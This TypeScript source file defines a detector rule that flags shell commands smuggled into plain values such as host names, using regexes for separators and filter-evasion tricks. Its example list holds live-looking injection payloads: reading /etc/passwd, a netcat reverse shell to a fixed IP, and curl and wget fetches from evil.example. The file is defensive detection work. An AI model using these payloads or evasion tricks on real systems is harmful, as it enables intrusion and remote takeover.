import { argumentDetector, isProse, isShortLine, wholeValue, type ArgumentRule } from './argument-detector.ts';
import { COMMAND, COMMAND_LINE } from './shell-commands.ts';

/** Where a shell begins another command. Blanks, quotes and brackets may stand around it. */
const SEPARATOR =
  /(?:\|\||&&|[;|&\n\r`]|\$\(|[<>]\(|%0[ad]|%26|%3b|%7c|\\n|(?<=^|["'\s;|&])(?=\{))(?:\s|%20|%0[ad]|[&;|"'`(@!]|\$\(|\\n|\\?["']){0,8}/gi;
const MAX_SEPARATORS = 40;
/** Ways to write a command so that a filter does not know it; they mean nothing anywhere else. */
const EVASION =
  /[a-z]["'][a-z]{1,3}["'][a-z]|\$\{?IFS\b|\$(?:@|\*|\d)(?=[a-z])|[a-z](?:''|""|\\)[a-z]+(?:''|""|\\)?[a-z]*\s|\$\{(?:PATH|HOME|SHELL|LS_COLORS|PWD)[:#%]|\$'\\x|<<<|\{\w{2,8},[^{}\s]{1,60}\}|\$\(\(?\s?[a-z$"'`]|\(\)\s?\{\s?:;?\s?\}|2>&1|>\s?\/(?:dev|tmp|var|etc)\//i;
const NEVER_PLAIN = /\$\{(?:PATH|HOME|SHELL|LS_COLORS|PWD)[:#%]|\$'\\x|\$\{?IFS\b/;
const REMOVED = /(?<=[a-z])["'](?=[a-z])|''|""|\\(?=[a-z])|\$(?:@|\*|\d)(?=[a-z/])/gi;
const BLANKED = /\$\{?IFS\}?(?:\$9)?/gi;
/** Text for people is looked at where it begins like a name or an address, and goes on like a shell. */
const PLAIN_START = /^["'\s]{0,4}[\w.@:/*+-]{0,60}["'\s)]{0,4}(?:[;|&`<]|\$\(|%0[ad])/i;
const META = /[;|&\n\r`$<>{}%\\]/;

const rule: ArgumentRule = (text, role, name) => {
  if (role === 'command' || role === 'code' || role === 'sql') return undefined;
  if (role === 'text' && (!isShortLine(text, name) || !PLAIN_START.test(text))) return undefined;
  const open = role === 'open' || role === 'template' || role === 'text';
  if (open && ((isProse(text) && !/^\s{0,4}[;|&]/.test(text)) || text.length > 600 || /^\s{0,4}```/.test(text)))
    return undefined;
  if (!open && COMMAND_LINE.test(text) && !isProse(text)) return wholeValue(text);
  if (!META.test(text)) return undefined;
  // Backticks in a sentence are how people quote commands.
  const readable = isProse(text) ? text.replaceAll('`', ' ') : text.replaceAll('```', '   ');
  const at = separatorBeforeCommand(readable, open);
  if (at >= 0) return { start: at, end: text.length };
  if (!EVASION.test(text)) return undefined;
  if (!open && NEVER_PLAIN.test(text)) return wholeValue(text);
  // A shell drops these before it looks for the command.
  const plain = text.replaceAll(REMOVED, '').replaceAll(BLANKED, ' ');
  return plain !== text && separatorBeforeCommand(plain, open) >= 0 ? wholeValue(text) : undefined;
};

function separatorBeforeCommand(text: string, open: boolean): number {
  SEPARATOR.lastIndex = 0;
  for (let seen = 0; seen < MAX_SEPARATORS; seen++) {
    const separator = SEPARATOR.exec(text);
    if (!separator) return -1;
    // What takes anything takes lines, too.
    if (open && /^[\r\n]/.test(separator[0])) continue;
    COMMAND.lastIndex = SEPARATOR.lastIndex;
    const head = text.slice(0, separator.index);
    if (COMMAND.test(text) && (!open || isPlainHead(head)) && !isQueryString(text, separator.index))
      return separator.index;
    if (SEPARATOR.lastIndex === separator.index) SEPARATOR.lastIndex++;
  }
  return -1;
}

/** In a value that may be a command line or a sentence, only what is put behind one plain word is put there by force. */
function isPlainHead(head: string): boolean {
  if (!/^["'\s]{0,4}[^\s;|&`$]{0,60}["'\s)]{0,4}$/.test(head)) return false;
  COMMAND.lastIndex = 0;
  return !/^(?:cd|ls|pwd|make|npm|git|docker|export|set|sudo)$/i.test(head.trim()) && !COMMAND.test(`${head.trim()} `);
}

/** `?a=1&id=2`: the ampersand of a URL is no shell's. */
function isQueryString(text: string, at: number): boolean {
  return (
    text[at] === '&' &&
    text[at + 1] !== '&' &&
    /[?&][\w[\].-]{1,40}=[^\s]{0,2000}$/.test(text.slice(Math.max(0, at - 2040), at)) &&
    !/^&\s/.test(text.slice(at))
  );
}

export const COMMAND_INJECTION = argumentDetector(
  {
    id: 'exec.command-injection',
    severity: 'critical',
    title: 'Command put into a plain value',
    explanation:
      'A value such as a host or a file name ends with a shell separator and a command: it would be run if it reached a shell.',
    examples: {
      name: 'host',
      match: [
        '10.0.0.8; cat /etc/passwd',
        'example.org && whoami',
        '| nc -e /bin/sh 198.51.100.7 4444',
        '$(curl http://evil.example/x)',
        'a`id`',
        'shop%0Awget%20http://evil.example/x',
        "x;c''at${IFS}/etc/passwd",
        'wget http://evil.example/shell.php',
      ],
      noMatch: [
        'Tom & Jerry',
        'R&D; find us at booth 5',
        'Rock | Paper | Scissors',
        'db.example.com',
        'AT&T; cat food',
        'a=1&id=2',
      ],
    },
  },
  rule,
  { large: [COMMAND, COMMAND_LINE, EVASION, SEPARATOR] },
);
